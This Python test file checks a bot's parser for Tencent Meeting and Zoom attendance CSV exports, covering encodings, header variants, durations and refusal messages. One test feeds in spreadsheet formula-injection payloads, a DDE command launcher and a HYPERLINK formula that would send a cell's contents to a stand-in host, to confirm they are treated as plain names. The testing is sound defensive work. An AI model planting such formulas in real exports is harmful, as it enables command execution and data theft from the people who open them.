"""The lists that conferences export, in the forms in which they come."""

from contextlib import suppress

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.errors import Refusal
from bot.meetings.attendance import Known
from bot.meetings.exports import Attendee, read_export

from .arranged import roster

TENCENT = """\
会议主题,双周例会
会议号,123456789
预定时间,2026-12-10 20:00

用户昵称（入会昵称）,首次入会时间,最后退会时间,入会次数,累计参会时长,身份
王泽(coral 王泽),2026-12-10 20:00:00,2026-12-10 20:30:00,1,0:30:00,主持人
李娜(李娜),2026-12-10 20:00:00,2026-12-10 21:00:10,2,01:00:10,成员
李娜(李娜),2026-12-10 21:00:00,2026-12-10 21:10:00,1,0:10:00,成员
"""
ZOOM = """\
Meeting ID,Topic,Start Time,End Time,User Email,Duration (Minutes),Participants
123 4567 8901,Biweekly,12/10/2026 08:00:00 PM,12/10/2026 09:00:00 PM,host@example.com,60,3

Name (Original Name),User Email,Join Time,Leave Time,Duration (Minutes),Guest,In Waiting Room
Ze Wang (ipad),coral@example.com,12/10/2026 08:00:00 PM,12/10/2026 08:30:00 PM,30,No,No
"Otter, B.",,12/10/2026 08:00:00 PM,12/10/2026 08:30:00 PM,30,Yes,No
Ze Wang,coral@example.com,12/10/2026 08:31:00 PM,12/10/2026 09:00:00 PM,29,No,No
Nosy,,12/10/2026 08:31:00 PM,12/10/2026 09:00:00 PM,29,No,Yes
otter@example.com,otter@example.com,12/10/2026 08:31:00 PM,12/10/2026 09:00:00 PM,29,No,No
"""
OF_TENCENT = (Attendee("王泽", 30, ("coral 王泽",)), Attendee("李娜", 70))


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "gbk"])
@pytest.mark.parametrize("separator", [",", "\t"])
def test_tencents_list_in_any_encoding(encoding, separator):
    data = TENCENT.replace(",", separator).replace("\n", "\r\n").encode(encoding)
    assert read_export(data, "a.csv") == OF_TENCENT


def test_zooms_list_and_no_address_of_it():
    assert read_export(ZOOM.encode(), "a.csv") == (
        Attendee("Ze Wang", 59, ("ipad",)),
        Attendee("Otter, B.", 30),
        Attendee("…", 29),
    )


@pytest.mark.parametrize(
    "formula", ["=coral", "+coral", "=1+cmd|' /C calc'!A0", '=HYPERLINK("http://x/"&A1,"coral")']
)
def test_a_formula_is_a_name_and_nobodys(formula):
    """Nothing is worked out, and it leads to nobody whom the roster knows."""
    quoted = formula.replace('"', '""')
    (found,) = read_export(f'姓名\n"{quoted}"\n'.encode(), "a.csv")
    assert formula.startswith(found.name)
    assert Known(roster(committer="coral"), "gitee").who(found.name, *found.also).login is None


@pytest.mark.parametrize(
    ("header", "row", "minutes"),
    [
        ("姓名,时长", "甲,45分钟", 45),
        ("参会者,参会时长", "甲,1小时2分3秒", 62),
        ("名称（原始名称）,持续时间（分钟）", "甲,8", 8),
        ("User Name,Join Time,Leave Time", "甲,2026-12-10 20:00:00,2026-12-10 20:31:59", 31),
        ("User Name,Join Time,Leave Time", "甲,soon,later", None),
        ("姓名", "甲", None),
        ("序号,姓名", "1,甲", None),
        ("Name,Total duration (minutes),Guest", "甲,12.5,No", 12),
    ],
)
def test_headers_vary(header, row, minutes):
    place = header.split(",").index("姓名") if header.startswith("序号") else 0
    name = row.split(",")[place]
    assert read_export(f"{header}\n{row}\n".encode(), "a.csv") == (Attendee(name, minutes),)


@pytest.mark.parametrize(
    ("data", "told"),
    [
        (b"PK\x03\x04rest", "is a workbook (Excel): save it as CSV"),
        (b"", "has no column of names"),
        (b"a,b\n1,2\n", "has no column of names"),
        ("姓名,时长\n".encode(), "has headers in line 1 and nobody below them"),
        (b"\x80\x00\x81\xff", "is no text in UTF-8, UTF-16 or GBK"),
        (b"x" * 5_000_001, "is too large"),
    ],
)
def test_what_is_no_list_is_refused_with_what_was_expected(data, told):
    with pytest.raises(Refusal) as refused:
        read_export(data, "a.csv")
    assert str(refused.value).startswith(f"a.csv {told}")
    assert "用户昵称" in str(refused.value)


@given(st.binary() | st.text().map(str.encode) | st.text().map(lambda rest: f"姓名,时长\n{rest}".encode()))
def test_any_bytes_are_a_list_or_refused(data):
    with suppress(Refusal):
        assert all(each.name for each in read_export(data, "a.csv"))
